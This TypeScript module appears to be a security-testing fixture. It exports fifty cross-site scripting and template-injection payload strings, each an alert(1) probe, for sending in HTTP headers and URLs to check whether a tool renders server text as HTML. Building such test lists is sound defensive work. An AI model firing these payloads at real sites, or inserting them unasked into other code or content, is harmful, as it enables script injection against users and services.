/**
 * Markup and script payloads, the kind that runs when a tool renders server text as HTML. Fifty of
 * them, each a valid HTTP header value (no CR/LF), to send in headers and URLs.
 */
const BASE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '<iframe src="javascript:alert(1)">',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<object data="javascript:alert(1)">',
  '<embed src="javascript:alert(1)">',
  '<link rel=import href=data:text/html,<script>alert(1)</script>>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<style>@import "javascript:alert(1)";</style>',
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is the literal text.
  '${alert(1)}',
  '`-alert(1)-`',
  'javascript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<!--<script>alert(1)//-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><button formaction=javascript:alert(1)>x',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<base href="javascript:alert(1)//">',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<keygen autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<audio src=x onerror=alert(1)>',
];
const EXTRA = [
  '| pipe | and `backticks` |',
  '```\n', // newline is stripped below: headers cannot carry it
  '[link](javascript:alert(1))',
  '![img](x" onerror="alert(1))',
  '<img src=x onerror=alert`1`>',
  '\u00ab<script>alert(1)</script>\u00bb',
  '"onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '<svg/onload=alert(1)>',
  '<img/src/onerror=alert(1)>',
];

export const PAYLOADS: readonly string[] = [...BASE, ...EXTRA].map((p) => p.replace(/[\r\n]/g, ''));
